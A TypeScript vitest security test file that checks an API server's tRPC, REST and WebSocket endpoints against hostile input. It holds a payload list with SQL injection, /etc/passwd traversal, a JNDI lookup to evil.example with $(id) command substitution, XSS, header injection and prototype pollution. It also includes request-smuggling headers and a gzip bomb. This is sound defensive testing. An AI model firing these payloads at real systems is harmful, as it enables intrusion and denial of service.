// What an attacker types: hostile values at every procedure, headers, bodies, bytes that are no HTTP. Nothing fails inside, nothing leaks.
import { once } from 'node:events';
import { request } from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { WebSocket } from 'ws';
import { appRouter } from '../../api/router.ts';
import { newId } from '../../contracts/ids.ts';
import { CASES, UNKNOWN } from '../api/support/cases.ts';
import { startFixture, type Fixture } from '../api/support/fixture.ts';
import { answersIn, rawRequest } from './support/raw-request.ts';

let product: Fixture;
let key: string;
beforeAll(async () => {
  product = await startFixture({
    settings: { api: { requireKey: true, requestsPerMinute: 100_000 } },
  });
  key = await product.key('acme', 'olga', 'operator');
});
afterAll(() => product[Symbol.asyncDispose]());

const HOSTILE = [
  "' OR 1=1; DROP TABLE sessions; --",
  '\u0000',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example}{{7*7}}$(id)`id`',
  '<script>alert(1)</script>',
  'a\r\nx-injected: 1',
  '\u001b]52;c;ZXZpbA==\u0007',
  '__proto__',
  'constructor',
  '\ud800',
  '%00%0d%0a%2e%2e%2f',
  'A'.repeat(70_000),
  -1,
  1e308,
  true,
  null,
  [],
  { $gt: '' },
  ['x', { length: 1e9 }],
];

/** Beside what the isolation test sends: every field in which a procedure takes words. */
const MORE: Record<string, Record<string, unknown>> = {
  'session.start': {
    ...{ agent: 'a', model: 'm', title: 't', context: 'c', workspace: '/', message: 'x' },
    ...{ externalId: 'e', sessionId: newId('ses'), messageId: newId('msg'), tools: [], limits: {} },
  },
  'session.send': { messageId: newId('msg'), policy: 'enqueue', wait: '1ms', reopen: false },
  'session.list': { cursor: 'c', state: 'waiting', limit: 1 },
  'session.page': { after: 0, limit: 1 },
  'tool.pending': { sessionId: UNKNOWN.sessionId, limit: 1 },
  'tool.claim': { runnerId: UNKNOWN.runnerId },
  'tool.result': { runnerId: UNKNOWN.runnerId, holder: 'me' },
  'approval.list': { sessionId: UNKNOWN.sessionId, state: 'open', cursor: '1', limit: 1 },
  'approval.decide': { arguments: {}, reason: 'no', decisionId: 'd' },
  'artifact.put': { name: 'n' },
  'key.create': { role: 'user', label: 'l', tenant: 'acme' },
  'runner.register': { labels: {} },
  'system.audit': { cursor: '1', limit: 1, action: 'key.created' },
};

const PROCEDURES = Object.entries(CASES).flatMap(([path, made]) => {
  const { type } = (appRouter._def.procedures as unknown as Kinds)[path]!._def;
  const input = { ...('names' in made ? made.names(UNKNOWN) : made.own), ...MORE[path] };
  // A subscription that begins has no end; its input is read as that of any query.
  return type === 'subscription' ? [] : [{ path, type, input }];
});
type Kinds = Record<string, { _def: { type: 'query' | 'mutation' | 'subscription' } }>;

/** The input once with each hostile value in place of each field, and once with a field too many. */
const spoiled = (input: Record<string, unknown>): Record<string, unknown>[] =>
  [...Object.keys(input), 'by'].flatMap((field) =>
    HOSTILE.map((value) => ({ ...input, [field]: value })),
  );

async function callWith(path: string, type: string, input: unknown): Promise<Response> {
  const authorization = `Bearer ${key}`;
  const body = JSON.stringify(input);
  if (type === 'query' && body.length < 10_000)
    return fetch(`${product.url}/trpc/${path}?input=${encodeURIComponent(body)}`, {
      headers: { authorization },
    });
  return fetch(`${product.url}/trpc/${path}`, {
    method: 'POST',
    headers: { authorization, 'content-type': 'application/json' },
    body,
  });
}

/** What an answer to an attacker must never hold: where the code lies, how the database is asked, whose key this is. */
const INSIDES =
  /node_modules|\.ts:\d|at async|SQLITE_|SqliteError|syntax error|no such column|violates|pdk_/i;

describe.each(PROCEDURES)('$path', ({ path, type, input }) => {
  test('no hostile value fails inside or shows the inside', async () => {
    for (const given of spoiled(input)) {
      const response = await callWith(path, type, given);
      const text = await response.text();
      const about = `${JSON.stringify(given).slice(0, 300)} → ${response.status} ${text.slice(0, 300)}`;
      expect(response.status, about).not.toBe(500);
      // A key that was made is shown this once.
      if (path !== 'key.create' || response.status >= 400) expect(text, about).not.toMatch(INSIDES);
    }
  });
});

test('what was tried as SQL is text: the tables are there, and nobody else was seen', async () => {
  const other = await product.key('globex', 'gus', 'operator');
  await product.send('POST', '/api/sessions', { key: other, body: { title: 'theirs' } });
  const query = encodeURIComponent("' OR '1'='1");
  for (const path of [
    `context=${query}`,
    `user=${query}`,
    `cursor=${query}`,
    `externalId=${query}`,
  ]) {
    const { body } = await product.send('GET', `/api/sessions?${path}`, { key });
    expect(JSON.stringify(body)).not.toContain('theirs');
  }
  expect((await product.send('GET', '/api/sessions', { key })).status).toBe(200);
});

test('no name that leads to a prototype gets through any door', async () => {
  const ways: (() => Promise<unknown>)[] = [
    () =>
      product.send(
        'GET',
        '/api/sessions?__proto__[polluted]=1&constructor[prototype][polluted]=1',
        { key },
      ),
    () => product.send('GET', '/api/sessions?__proto__.polluted=1', { key }),
    () =>
      product.send('POST', '/api/sessions', {
        key,
        body: '{"limits":{"__proto__":{"polluted":1}}}',
      }),
    () =>
      product.send('POST', '/api/runners', {
        key,
        body: '{"labels":{"__proto__":"x"},"name":"__proto__"}',
      }),
    () =>
      product.send('PUT', '/api/active-session', {
        key,
        body: '{"context":"__proto__","sessionId":null}',
      }),
    () =>
      product.send('POST', '/api/sessions', {
        key,
        body: {},
        headers: { 'idempotency-key': '__proto__' },
      }),
    () =>
      fetch(
        `${product.url}/trpc/system.info?connectionParams=${encodeURIComponent('{"__proto__":{"polluted":1}}')}`,
      ),
    () =>
      overSocket(
        '{"id":1,"method":"query","params":{"path":"session.list","input":{"__proto__":{"polluted":1}}}}',
      ),
    () => overSocket('{"id":2,"method":"query","params":{"path":"__proto__.constructor"}}'),
  ];
  for (const way of ways) await way();
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
});

/** The first answer to a frame on an open socket. */
async function overSocket(frame: string): Promise<string> {
  const socket = new WebSocket(`${product.url.replace('http', 'ws')}/trpc?connectionParams=1`);
  socket.on('error', () => {});
  await once(socket, 'open');
  socket.send(
    JSON.stringify({ method: 'connectionParams', data: { authorization: `Bearer ${key}` } }),
  );
  socket.send(frame);
  const said = await Promise.race([
    once(socket, 'message').then(([data]) => (data as Buffer).toString()),
    once(socket, 'close').then(([code]) => `closed ${String(code)}`),
  ]);
  socket.terminate();
  return said;
}

describe('headers', () => {
  test.each([
    ['a line break', 'text/plain\r\nx-injected: 1'],
    ['letters that no header can hold', 'text/плохо; ☃'],
    ['a page', 'text/html'],
  ])(
    'a media type with %s can be stored, and comes back as nothing that a browser obeys',
    async (_, mediaType) => {
      const stored = await product.send('POST', '/trpc/artifact.put', {
        key,
        body: { base64: 'eA==', mediaType, name: 'a"\r\nx-injected: 1\r\n/../../b' },
      });
      const { artifact } = (stored.body['result'] as { data: { artifact: string } }).data;
      const { status, headers } = await product.send('GET', `/api/artifacts/${artifact}`, { key });
      expect(status).toBe(200);
      expect(headers.get('x-injected')).toBeNull();
      expect(headers.get('content-disposition')).toMatch(
        /^attachment; filename\*=UTF-8''[\w%.-]+$/,
      );
      expect(headers.get('content-security-policy')).toContain('sandbox');
    },
  );

  test('a request id with a line break is not echoed', async () => {
    const said = await rawRequest(
      product.url,
      'GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Request-Id: a\u000bx-injected: 1\r\nConnection: close\r\n\r\n',
    );
    expect(said).not.toContain('x-injected');
  });

  test.each([
    ['two lengths', 'Content-Length: 2\r\nContent-Length: 70'],
    ['a length and chunks', 'Content-Length: 5\r\nTransfer-Encoding: chunked'],
    ['chunks by another name', 'Transfer-Encoding: xchunked'],
    ['a folded line', 'X-A: b\r\n c: d\r\nTransfer-Encoding:\r\n chunked'],
  ])('a request with %s cannot carry a second one', async (_, lines) => {
    const hidden = `GET /api/system HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${key}\r\n\r\n`;
    const said = await rawRequest(
      product.url,
      `POST /api/sessions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n${lines}\r\n\r\n0\r\n\r\n${hidden}`,
    );
    expect(answersIn(said)).toBe(1);
    expect(said).toMatch(/^HTTP\/1\.1 400/);
  });

  test('more headers than a head may hold are refused', async () => {
    const many = Array.from({ length: 5_000 }, (_, index) => `x-${index}: y\r\n`).join('');
    const said = await rawRequest(
      product.url,
      `GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n${many}\r\n`,
    );
    expect(said).toMatch(/^HTTP\/1\.1 431/);
  });
});

describe('bodies', () => {
  const brackets = '['.repeat(1_000_000) + ']'.repeat(1_000_000);

  test('two million brackets are refused at each door, and the next request is answered', async () => {
    const rest = await product.send('POST', '/api/sessions', { key, body: brackets });
    expect(rest.status).toBe(400);
    const trpc = await product.send('POST', '/trpc/session.start', {
      key,
      body: `{"title":${brackets}}`,
    });
    expect(trpc.status).toBe(400);
    const frame = `{"id":1,"method":"mutation","params":{"path":"session.start","input":{"title":${brackets}}}}`;
    expect(await overSocket(frame)).toMatch(/invalid_input|closed/);
    expect((await product.send('GET', '/api/system', { key })).status).toBe(200);
  });

  test('a frame that is too large closes the socket and nothing else', async () => {
    expect(await overSocket('x'.repeat(2_200_000))).toBe('closed 1009');
    expect((await product.send('GET', '/api/system', { key })).status).toBe(200);
  });

  test('a body that unpacks to much more is not unpacked', async () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000, ' '));
    const response = await fetch(`${product.url}/api/sessions`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${key}`,
        'content-type': 'application/json',
        'content-encoding': 'gzip',
      },
      body: bomb,
    });
    expect(response.status).toBe(400);
  });

  test('an artifact beyond its limit is refused while it comes', async () => {
    const status = await new Promise<number>((resolve, reject) => {
      const sending = request(
        `${product.url}/api/artifacts`,
        { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-length': 2 ** 40 } },
        (response) => resolve(response.statusCode ?? 0),
      ).on('error', reject);
      sending.flushHeaders();
    });
    expect(status).toBe(413);
  });
});
